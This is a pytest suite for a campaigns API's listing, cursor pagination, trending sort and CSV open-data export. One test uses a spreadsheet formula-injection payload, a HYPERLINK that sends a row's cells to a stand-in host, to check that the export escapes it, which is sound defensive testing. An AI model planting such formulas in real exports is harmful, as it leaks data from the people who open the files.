"""Browsing campaigns: by area and status, newest, most supported, rising; cursors; open data."""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import quote

import pytest

from tests.api.campaign_helpers import create, open_campaign
from tests.conftest import assert_error

# Other tests may list campaigns in this area too: each check keeps to this module's owner's.
AREA = "defence"


@pytest.fixture(scope="module")
def opened(api, make_user):
    owner, moderator = make_user(), make_user("moderators")
    campaigns = [open_campaign(api, owner, moderator, area=AREA, title=f"Defence campaign number {i}")
                 for i in range(5)]
    create(api, owner, area=AREA)  # a draft never shows in public lists
    from chalicelib.store.tables.campaigns import CampaignRecord

    # Support gained in the last day falls as the count rises: the hourly counts say so too, so an
    # hourly recompute of every open campaign (another test's) keeps the same order.
    for count, gained, campaign in zip([30, 10, 50, 20, 40], [8, 10, 6, 9, 7], campaigns, strict=True):
        CampaignRecord.get(campaign["id"]).update(actions=[
            CampaignRecord.support_count.set(count), CampaignRecord.hourly_counts.set([count - gained] * 24),
            CampaignRecord.trending_score.set(gained)])
    return campaigns


def _list(api, query: str) -> dict:
    response = api.get(f"/campaigns?{query}")
    assert response.status_code == 200, response.body
    return json.loads(response.body)


def _every_page(api, query: str) -> list[dict]:
    items, cursor = [], None
    while True:
        page = _list(api, query + (f"&cursor={quote(cursor)}" if cursor else ""))
        items += page["items"]
        cursor = page["next_cursor"]
        if not cursor:
            return items


def _owned_by(owner_id: str, items: list[dict]) -> list[dict]:
    """This test's campaigns (its owner's draft too, were it ever listed), not other tests'."""
    return [c for c in items if c["owner"]["id"] == owner_id]


def test_newest_first_in_an_area(api, opened):
    items = _every_page(api, f"area={AREA}&limit=100")
    assert [c["id"] for c in _owned_by(opened[0]["owner"]["id"], items)] == [c["id"] for c in reversed(opened)]
    assert all(c["status"] == "open" for c in items)


def test_most_supported_and_rising(api, opened):
    top = _owned_by(opened[0]["owner"]["id"], _every_page(api, f"area={AREA}&sort=top&limit=100"))
    assert [c["support_count"] for c in top] == [50, 40, 30, 20, 10]
    rising = _owned_by(opened[0]["owner"]["id"], _every_page(api, f"area={AREA}&sort=trending&limit=100"))
    assert [c["support_count"] for c in rising] == [10, 20, 30, 40, 50]
    everywhere = _every_page(api, "sort=top&limit=100")
    assert {c["id"] for c in opened} <= {c["id"] for c in everywhere}


def test_pages_follow_the_cursor_without_gaps_or_repeats(api, opened):
    seen, every, cursor = [], [], None
    while True:
        page = _list(api, f"area={AREA}&sort=top&limit=2" + (f"&cursor={quote(cursor)}" if cursor else ""))
        assert len(page["items"]) <= 2
        seen += [c["id"] for c in _owned_by(opened[0]["owner"]["id"], page["items"])]
        every += [c["id"] for c in page["items"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert sorted(seen) == sorted(c["id"] for c in opened) and len(every) == len(set(every))


def test_forged_tampered_and_foreign_cursors_are_400(api, opened):
    cursor = _list(api, f"area={AREA}&limit=2")["next_cursor"]
    payload, signature = cursor.split(".")
    for bad in ["nonsense", f"{payload}.{signature[::-1]}", f"{payload[:-2]}xx.{signature}", "a.b.c", "%%%"]:
        assert_error(api.get(f"/campaigns?area={AREA}&cursor={quote(bad)}"), 400, "invalid_cursor")
    # a genuine cursor of one list is refused by another
    assert_error(api.get(f"/campaigns?area={AREA}&sort=top&cursor={quote(cursor)}"), 400, "invalid_cursor")


@pytest.mark.parametrize("query", ["limit=0", "limit=101", "limit=ten", "status=pending", "status=draft",
                                   "sort=random", "area=atlantis", "colour=red"])
def test_bad_list_queries_are_400(api, query):
    assert_error(api.get(f"/campaigns?{query}"), 400)


def test_open_data_csv(api, opened):
    response = api.get("/campaigns.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.body.decode())))
    mine = {r["id"]: r for r in rows if r["id"] in {c["id"] for c in opened}}
    assert len(mine) == len(opened)
    assert sorted(int(r["support_count"]) for r in mine.values()) == [10, 20, 30, 40, 50]
    ours = mine[opened[0]["id"]]
    assert set(ours) >= {"title", "area", "status", "support_count", "url"}
    assert all(r["status"] in ("open", "closed") for r in rows)
    # owners are never in the open data
    assert "owner" not in ",".join(ours)


def test_my_campaigns_lists_drafts_too(api, make_user):
    owner = make_user()
    draft = create(api, owner, area="housing")
    mine = json.loads(api.get("/me/campaigns", user=owner).body)["items"]
    assert [c["id"] for c in mine] == [draft["id"]]
    assert_error(api.get("/me/campaigns?relation=enemies", user=owner), 400)


def test_rising_now_is_support_gained_in_the_last_24_hours(api, make_user):
    from chalicelib.events.trending import recompute_trending
    from chalicelib.store.base import system_update
    from chalicelib.store.tables.campaigns import CampaignRecord

    owner, moderator = make_user(), make_user("moderators")
    area = "home-affairs"
    history = {"steady giant": (1000, 1010), "fast riser": (5, 105), "new and quick": (0, 50)}
    ids = {}
    for name, (day_ago, now) in history.items():
        campaign = open_campaign(api, owner, moderator, area=area, title=f"Home affairs: a {name} campaign")
        ids[name] = campaign["id"]
        system_update(CampaignRecord, campaign["id"], actions=[
            CampaignRecord.hourly_counts.set([day_ago] * 24), CampaignRecord.support_count.set(now)])
    assert recompute_trending() >= 3
    rising = _owned_by(owner.sub, _every_page(api, f"area={area}&sort=trending&limit=100"))
    assert [c["id"] for c in rising] == [ids["fast riser"], ids["new and quick"], ids["steady giant"]]
    top = _owned_by(owner.sub, _every_page(api, f"area={area}&sort=top&limit=100"))
    assert top[0]["id"] == ids["steady giant"]


def test_open_data_pages_are_cacheable_and_follow_link_next(api, opened):
    first = api.get("/campaigns.csv")
    assert first.headers["Cache-Control"] == "public, max-age=300"  # anonymous, the same for everyone
    assert first.headers["Link"].endswith('; rel="next"') and "cursor=" in first.headers["Link"]
    following = first.headers["Link"].split(";")[0].strip("<>")
    second = api.get(following)
    assert second.status_code == 200 and second.headers["Cache-Control"] == "public, max-age=300"


def test_open_data_reads_only_the_columns_it_writes(api, opened, dynamodb_calls):
    """A page of 1,000 rows read whole campaigns (10 KB bodies) and every owner; now only its columns."""
    assert api.get("/campaigns.csv").status_code == 200
    batches = [c for c in dynamodb_calls.calls if c.operation == "BatchGetItem"]
    assert batches
    for call in batches:
        for table, request in call.params["RequestItems"].items():
            assert table.endswith("-campaigns"), table  # no owners, organisations or ministers looked up
            projected = request.get("ProjectionExpression", "")
            names = set(request.get("ExpressionAttributeNames", {}).values())
            assert projected and "body" not in names and "owner_id" not in names, request


def test_a_formula_in_a_title_stays_text_in_the_open_data(api, make_user):
    """A spreadsheet would run `=HYPERLINK(...)` and send the row's other cells away."""
    owner, moderator = make_user(), make_user("moderators")
    title = '=HYPERLINK("https://x.example/?"&B2,"Details")'
    campaign = open_campaign(api, owner, moderator, area="culture", title=title)
    rows = list(csv.DictReader(io.StringIO(api.get("/campaigns.csv").body.decode())))
    mine = [r for r in rows if r["id"] == campaign["id"]]
    assert [r["title"] for r in mine] == ["'" + title]
    assert json.loads(api.get(f"/campaigns/{campaign['id']}").body)["title"] == title  # the API keeps it as written
